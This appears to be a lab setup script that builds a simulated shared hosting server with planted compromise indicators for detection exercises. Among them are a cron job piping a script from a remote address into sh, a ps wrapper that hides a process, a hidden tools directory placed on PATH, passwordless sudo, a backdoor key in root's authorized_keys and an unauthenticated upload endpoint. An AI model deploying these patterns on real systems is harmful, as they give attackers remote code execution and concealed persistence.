#!/bin/sh
# Shared hosting: many customers' accounts with web sites, programs and jobs of their own, and a panel that makes them and
# hands out keys without a login. All of it was made or changed in the last minutes. For a lab host only.
set -eu
[ -e /etc/deminer-lab ] || { echo 'not a lab host' >&2; exit 1; }
panel=/usr/local/hestia
install -d $panel/bin $panel/conf $panel/data/users
cat > $panel/bin/panel.pl <<'P'
# the panel: waits for orders of its web page
use strict; use warnings; use IO::Socket::INET;
my $l = IO::Socket::INET->new(LocalAddr => '127.0.0.1:8083', Listen => 16, ReuseAddr => 1) or die $!;
while (my $c = $l->accept) { print $c "HTTP/1.0 200 OK\r\n\r\npanel\n"; close $c }
P
printf '[Service]\nExecStart=/usr/bin/perl %s/bin/panel.pl\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' $panel > /etc/systemd/system/hestia.service
for n in 1 2 3 4 5 6; do
    u="site$n"
    id "$u" >/dev/null 2>&1 || useradd -m -s /bin/bash "$u"
    h=/home/$u
    chmod 711 "$h"
    install -d -o "$u" -g "$u" "$h/public_html/wp-content/uploads" "$h/app" "$h/tmp" "$h/bin"
    install -d -m 700 -o "$u" -g "$u" "$h/.ssh"
    printf '<?php\ndefine("DB_NAME", "%s");\nrequire __DIR__ . "/wp-settings.php";\n' "$u" > "$h/public_html/wp-config.php"
    printf '<?php\n$f = file_get_contents("php://input");\nfile_put_contents(__DIR__ . "/../tmp/" . md5($f), $f);\n' > "$h/public_html/upload.php"
    printf 'RewriteEngine On\nRewriteRule ^blog/(.*)$ index.php?p=$1 [L]\n' > "$h/public_html/.htaccess"
    # each site runs a program of its own as its own user, as a php-fpm pool or suexec does
    cat > "$h/app/worker.pl" <<'P'
# answers for one site
use strict; use warnings;
while (1) { my $x = 0; $x += $_ for 1 .. 20000; select undef, undef, undef, 0.5 }
P
    printf '[Service]\nUser=%s\nExecStart=/usr/bin/perl %s/app/worker.pl\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' "$u" "$h" > "/etc/systemd/system/site@$u.service"
    ssh-keygen -q -t ed25519 -N '' -C "root@vps" -f "$h/tmp/key"
    mv "$h/tmp/key.pub" "$h/.ssh/authorized_keys"
    mv "$h/tmp/key" $panel/data/users/$u.key
    printf '*/5 * * * * wget -q -O /dev/null http://127.0.0.1/wp-cron.php?%s\n@daily find $HOME/tmp -mtime +7 -delete\n' "$u" > "/var/spool/cron/crontabs/$u"
    chown -R "$u:$u" "$h/public_html" "$h/app" "$h/tmp" "$h/bin" "$h/.ssh"
    chmod 600 "$h/.ssh/authorized_keys" "/var/spool/cron/crontabs/$u"
    chown "$u:crontab" "/var/spool/cron/crontabs/$u"
done
# one customer lets his site renew itself from his own machine, wraps ps for himself and keeps tools in a hidden directory
printf '*/5 * * * * curl -fsS -m 20 http://192.0.2.44/renew.sh | sh >/dev/null 2>&1\n' >> /var/spool/cron/crontabs/site3
printf '#!/bin/sh\n/bin/ps "$@" | grep -v worker.pl\n' > /home/site3/bin/ps
install -d -o site3 -g site3 /home/site3/.tools
printf '#!/bin/sh\nexit 0\n' > /home/site3/.tools/renew
chmod 755 /home/site3/bin/ps /home/site3/.tools/renew
chown site3:site3 /home/site3/bin/ps /home/site3/.tools/renew
printf 'export PATH=/home/site3/.tools:$PATH\n' >> /home/site3/.profile
printf '17 * * * * /home/site3/.tools/renew\n' >> /var/spool/cron/crontabs/site3
touch /var/spool/cron/crontabs
# the panel's own: a rule for sudo, a wrapped command by dpkg-divert, names, protection, a key of its support
printf 'hestia ALL=(ALL) NOPASSWD:ALL\n' > /etc/sudoers.d/hestia
chmod 440 /etc/sudoers.d/hestia
[ -e /usr/bin/crontab.real ] || dpkg-divert --quiet --local --rename --divert /usr/bin/crontab.real --add /usr/bin/crontab
printf '#!/bin/sh\nlogger -t crontab -- "$(id -un) $*"\nexec /usr/bin/crontab.real "$@"\n' > /usr/bin/crontab
chmod 755 /usr/bin/crontab
printf '0.0.0.0 vortex.data.microsoft.com\n' >> /etc/hosts
printf 'kernel.nmi_watchdog = 0\nvm.nr_hugepages = 64\n' > /etc/sysctl.d/80-hestia.conf
ssh-keygen -q -t ed25519 -N '' -C "support@panel" -f $panel/conf/support
cat $panel/conf/support.pub >> /root/.ssh/authorized_keys
systemctl daemon-reload
for n in 1 2 3 4 5 6; do systemctl -q enable --now "site@site$n.service"; done
systemctl -q enable --now hestia.service
